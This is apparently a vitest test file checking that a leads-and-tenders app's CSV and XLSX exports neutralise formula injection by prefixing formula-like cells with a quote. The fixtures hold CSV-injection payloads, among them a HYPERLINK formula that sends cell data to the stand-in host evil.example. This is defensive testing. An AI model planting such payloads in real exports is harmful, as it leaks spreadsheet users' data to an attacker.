// Formula injection in exports (issue 13, point 4): text cells a spreadsheet would run as a
// formula — the first non-blank character =, +, -, @, or a tab or CR — come out of the leads and
// tenders exports with a leading single quote, in CSV and in XLSX (read back with exceljs);
// amounts and ids (number columns) stay numbers in both, negative ones too.
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { bearer, createUser, login, startTestApp, type TestContext } from "./harness.js";
import { PROJECTS, insertProject } from "./search-fixture.js";
import { inDays, insertTender } from "./tender-fixture.js";
import { parseCsv as readCsvText } from "../../server/ingest/importers/csv.js";

const HYPERLINK = ' =HYPERLINK("http://evil.example/?leak="&A1,"Click")';
/** Cell text as an attacker would store it → what the export must carry. */
const PAYLOADS = {
  hyperlink: [HYPERLINK, `'${HYPERLINK}`],
  tab: ["\t=1+1", "'\t=1+1"],
  cr: ["\r@SUM(A1:A9)", "'\r@SUM(A1:A9)"],
  plus: ["+1", "'+1"],
  minus: ["-1", "'-1"],
  nbsp: ["\u00a0\u00a0@cmd", "'\u00a0\u00a0@cmd"],
  plain: ["Kochi - Phase 2 = done", "Kochi - Phase 2 = done"],
} as const;
const sent = (k: keyof typeof PAYLOADS) => PAYLOADS[k][0];
const safe = (k: keyof typeof PAYLOADS) => PAYLOADS[k][1];
// XML reads a bare CR in cell text back as LF (line-end normalisation); the quote comes first either way.
const safeXlsx = (k: keyof typeof PAYLOADS) => safe(k).replace(/\r/g, "\n");

let t: TestContext;
let token: string;
let leadId: number;
let tenderId: number;
beforeAll(async () => {
  t = await startTestApp({ apiRequestsPerMinute: 100_000 });
  const user = await createUser(t.db);
  token = await login(t.app, user.email, user.password);
  leadId = await insertProject(t.db, {
    ...PROJECTS[0], key: "formula", title: sent("hyperlink"), sector: sent("tab"), stage: sent("cr"), district: sent("plus"), city: sent("minus"),
    owner: sent("nbsp"), types: [sent("plain")], state: "Mizoram", value: 12345678.5,
  });
  tenderId = await insertTender(t.db, {
    key: "formula", title: sent("hyperlink"), org: sent("tab"), status: "Live", category: "works", value: 25e5, emd: -1, state: "Mizoram", city: sent("cr"), closing: inDays(5),
  });
  await t.db.query(`UPDATE tenders SET reference = $2, department = $3, district = $4, tender_type = $5 WHERE id = $1`, [
    tenderId, sent("plus"), sent("minus"), sent("nbsp"), sent("plain"),
  ]);
});
afterAll(() => t?.close());

const exportOf = (path: string, format: "csv" | "xlsx") =>
  t.app.inject({ method: "GET", url: `/api/${path}?format=${format}&filter=state:Mizoram`, headers: bearer(token) });

/** RFC 4180 → rows of fields, read by the importers' own CSV reader. */
const parseCsv = (text: string): string[][] => readCsvText(text).map((r) => r.fields);

async function csvRecords(path: string): Promise<Record<string, string>[]> {
  const res = await exportOf(path, "csv");
  expect(res.statusCode).toBe(200);
  const [header, ...rows] = parseCsv(res.rawPayload.toString("utf8").replace(/^\uFEFF/, ""));
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
}

async function xlsxRecords(path: string): Promise<Record<string, ExcelJS.CellValue>[]> {
  const res = await exportOf(path, "xlsx");
  expect(res.statusCode).toBe(200);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  const sheet = wb.worksheets[0];
  const header = (sheet.getRow(1).values as ExcelJS.CellValue[]).slice(1).map(String);
  const out: Record<string, ExcelJS.CellValue>[] = [];
  for (let r = 2; r <= sheet.rowCount; r++) out.push(Object.fromEntries(header.map((h, i) => [h, sheet.getRow(r).getCell(i + 1).value])));
  return out;
}

const LEAD_CELLS = { Title: "hyperlink", Sector: "tab", Stage: "cr", District: "plus", City: "minus", Owner: "nbsp", "Project Type": "plain" } as const;
const TENDER_CELLS = { Title: "hyperlink", Organisation: "tab", City: "cr", Reference: "plus", Department: "minus", District: "nbsp", "Tender Type": "plain" } as const;

describe("leads export (list/search/export/)", () => {
  it("CSV: every formula-like text cell is quoted off; the amount and the id are plain numbers", async () => {
    const rows = await csvRecords("list/search/export/");
    expect(rows).toHaveLength(1);
    for (const [col, k] of Object.entries(LEAD_CELLS)) expect(rows[0][col], col).toBe(safe(k));
    expect(rows[0]["Value (Rs)"]).toBe("12345678.5");
    expect(rows[0].ID).toBe(String(leadId));
  });

  it("XLSX: the same cells are text starting with a quote (never a formula); the amount and the id are numbers", async () => {
    const rows = await xlsxRecords("list/search/export/");
    expect(rows).toHaveLength(1);
    for (const [col, k] of Object.entries(LEAD_CELLS)) expect(rows[0][col], col).toBe(safeXlsx(k));
    expect(rows[0]["Value (Rs)"]).toBe(12345678.5);
    expect(rows[0].ID).toBe(leadId);
  });
});

describe("tenders export (list/tenders/search/export/)", () => {
  it("CSV: formula-like text cells are quoted off; value and a negative EMD stay numbers", async () => {
    const rows = await csvRecords("list/tenders/search/export/");
    expect(rows).toHaveLength(1);
    for (const [col, k] of Object.entries(TENDER_CELLS)) expect(rows[0][col], col).toBe(safe(k));
    expect(rows[0]["Value (Rs)"]).toBe("2500000");
    expect(rows[0]["EMD (Rs)"]).toBe("-1");
    expect(rows[0].ID).toBe(String(tenderId));
  });

  it("XLSX: formula-like text cells are quoted off; value and a negative EMD are numbers", async () => {
    const rows = await xlsxRecords("list/tenders/search/export/");
    expect(rows).toHaveLength(1);
    for (const [col, k] of Object.entries(TENDER_CELLS)) expect(rows[0][col], col).toBe(safeXlsx(k));
    expect(rows[0]["Value (Rs)"]).toBe(2500000);
    expect(rows[0]["EMD (Rs)"]).toBe(-1);
    expect(rows[0].ID).toBe(tenderId);
  });
});
